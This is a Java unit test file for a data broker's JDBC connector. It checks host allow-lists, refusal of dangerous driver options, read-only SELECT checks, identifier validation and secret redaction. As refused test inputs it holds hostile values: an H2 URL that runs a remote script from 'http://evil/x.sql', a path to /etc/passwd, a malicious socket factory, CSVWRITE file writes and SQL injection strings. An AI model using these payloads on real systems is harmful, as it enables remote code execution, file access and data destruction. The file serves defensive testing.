package io.sluice.connectors.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sluice.connectors.ConnectorErrorCode;
import io.sluice.connectors.ConnectorException;
import io.sluice.connectors.SourceConfig;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The rules a JDBC source applies before it connects: URLs, hosts, SQL text, secrets in messages. */
class JdbcRulesTest {
    private static final Set<String> ALLOWED = JdbcUrls.allowedHosts(" db.example.org, 10.0.0.7,[::1] ");

    @Test
    void acceptsAPostgresUrlToAnAllowedHost() {
        JdbcUrls.Target target = JdbcUrls.check("jdbc:postgresql://DB.example.org:5432/clinic?sslmode=require&user=ro",
                ALLOWED);

        assertThat(target.kind()).isEqualTo(JdbcUrls.Kind.POSTGRESQL);
        assertThat(target.hosts()).containsExactly("db.example.org");
        assertThat(JdbcUrls.check("jdbc:postgresql://[::1]:5432,10.0.0.7/clinic", ALLOWED).hosts())
                .containsExactly("::1", "10.0.0.7");
    }

    @Test
    void refusesAHostTheBrokerDoesNotAllowNamingItButNotThePassword() {
        assertThatThrownBy(() -> JdbcUrls.check("jdbc:postgresql://evil.example.com/clinic?password=hunter2", ALLOWED))
                .isInstanceOfSatisfying(ConnectorException.class, e -> {
                    assertThat(e.errorCode()).isEqualTo(ConnectorErrorCode.HOST_NOT_ALLOWED);
                    assertThat(e.errorCode().category()).isEqualTo(ConnectorErrorCode.Category.USER);
                })
                .hasMessage("url 'jdbc:postgresql://evil.example.com/clinic?password=***' names host"
                        + " 'evil.example.com', which this broker does not allow for jdbc sources; ask its operator to"
                        + " allow it");
        assertThatThrownBy(() -> JdbcUrls.check("jdbc:postgresql://db.example.org,evil:5432/clinic", ALLOWED))
                .isInstanceOfSatisfying(ConnectorException.class,
                        e -> assertThat(e.errorCode()).isEqualTo(ConnectorErrorCode.HOST_NOT_ALLOWED));
        assertThatThrownBy(() -> JdbcUrls.check("jdbc:postgresql://db.example.org/clinic", Set.of()))
                .hasMessageEndingWith("(no hosts are allowed: jdbc sources are off)");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:postgresql://db.example.org/clinic?socketFactory=org.example.Evil",
        "jdbc:postgresql://db.example.org/clinic?loggerFile=/tmp/x",
        "jdbc:postgresql://db.example.org/clinic?PGHOST=evil",
        "jdbc:postgresql://db.example.org/clinic?sslfactory=x",
        "jdbc:postgresql://user:pw@db.example.org/clinic",
        "jdbc:postgresql:clinic",
        "jdbc:postgresql://db.example.org",
        "jdbc:h2:./data/broker",
        "jdbc:h2:file:/etc/passwd",
        "jdbc:h2:tcp://db.example.org/~/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;INIT=CREATE ALIAS",
        "jdbc:mysql://db.example.org/clinic",
        "jdbc:sqlite:/tmp/x",
    })
    void refusesUrlsThatCouldDoMoreThanConnect(String url) {
        assertThatThrownBy(() -> JdbcUrls.check(url, Set.of("db.example.org", JdbcUrls.H2_MEMORY)))
                .isInstanceOfSatisfying(ConnectorException.class,
                        e -> assertThat(e.errorCode()).isEqualTo(ConnectorErrorCode.INVALID_SOURCE_CONFIG))
                .message().doesNotContain("pw@");
    }

    @Test
    void allowsInMemoryH2OnlyWhenTheOperatorSaysSo() {
        assertThat(JdbcUrls.check("jdbc:h2:mem:test_1;DB_CLOSE_DELAY=-1", Set.of(JdbcUrls.H2_MEMORY)).kind())
                .isEqualTo(JdbcUrls.Kind.H2);
        assertThatThrownBy(() -> JdbcUrls.check("jdbc:h2:mem:test_1", ALLOWED))
                .isInstanceOfSatisfying(ConnectorException.class,
                        e -> assertThat(e.errorCode()).isEqualTo(ConnectorErrorCode.HOST_NOT_ALLOWED));
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "SELECT * FROM patients",
        "  select id, name from patients where note = 'a; DELETE FROM x' -- comment; DROP TABLE y\n",
        "WITH recent AS (SELECT * FROM visits WHERE day > DATE '2024-01-01') SELECT * FROM recent;",
        "SELECT $$ ; insert $$ AS text, $tag$ DROP $tag$ AS other, \"update\" FROM t /* delete; */",
        "SELECT E'it\\'s; DELETE' AS s FROM t ;  ",
    })
    void acceptsASingleReadOnlySelect(String sql) {
        assertThat(SqlText.checkSelect(sql, "'query'")).doesNotEndWith(";");
    }

    @Test
    void refusesAnythingButOneReadOnlySelect() {
        assertRefused("SELECT 1; SELECT 2", "source type 'jdbc': option 'query' holds more than one statement");
        assertRefused("DELETE FROM patients", "source type 'jdbc': option 'query' must be one SELECT (or WITH ... SELECT)"
                + " statement; it starts with DELETE");
        assertRefused("WITH gone AS (DELETE FROM patients RETURNING *) SELECT * FROM gone",
                "source type 'jdbc': option 'query' uses DELETE, which a read-only query may not");
        assertRefused("SELECT * INTO copy FROM patients", "source type 'jdbc': option 'query' uses INTO, which a"
                + " read-only query may not");
        assertRefused("SELECT * FROM patients FOR UPDATE", "source type 'jdbc': option 'query' uses UPDATE, which a"
                + " read-only query may not");
        assertRefused("SELECT CSVWRITE('/tmp/x', 'SELECT 1')", "source type 'jdbc': option 'query' uses CSVWRITE, which a"
                + " read-only query may not");
        assertRefused("SELECT 'unterminated", "source type 'jdbc': option 'query' has a string that is never closed");
        assertRefused("   ", "source type 'jdbc': option 'query' is empty");
    }

    private static void assertRefused(String sql, String message) {
        assertThatThrownBy(() -> SqlText.checkSelect(sql, "'query'"))
                .isInstanceOfSatisfying(ConnectorException.class,
                        e -> assertThat(e.errorCode()).isEqualTo(ConnectorErrorCode.QUERY_NOT_ALLOWED))
                .hasMessage(message);
    }

    @Test
    void acceptsTableNamesMadeOfIdentifiersOnly() {
        assertThat(SqlText.tableName("patients")).isEqualTo("patients");
        assertThat(SqlText.tableName("clinic.\"Patient Visits\"")).isEqualTo("clinic.\"Patient Visits\"");
        assertThat(SqlText.tableName("\"we\"\"ird\"")).isEqualTo("\"we\"\"ird\"");
        for (String bad : List.of("patients; DROP TABLE x", "a b", "\"open", "x.", ".x", "p--", "t)", "")) {
            assertThatThrownBy(() -> SqlText.tableName(bad)).as(bad)
                    .isInstanceOfSatisfying(ConnectorException.class,
                            e -> assertThat(e.errorCode()).isEqualTo(ConnectorErrorCode.INVALID_SOURCE_CONFIG));
        }
    }

    @Test
    void sourceConfigNeverPrintsASecret() {
        SourceConfig config = SourceConfig.of("jdbc", Map.of("url", "jdbc:postgresql://db/x?user=a&password=s3cr3t",
                "password", "hunter2", "table", "t"));

        assertThat(config.toString()).doesNotContain("s3cr3t").doesNotContain("hunter2")
                .contains("password=***").contains("jdbc:postgresql://db/x?user=a&password=***");
        assertThat(config.redactedOptions()).containsEntry("password", "***");
        assertThat(SourceConfig.redactUrl("jdbc:h2:tcp://h/db;USER=sa;PASSWORD=pw")).isEqualTo(
                "jdbc:h2:tcp://h/db;USER=sa;PASSWORD=***");
    }
}
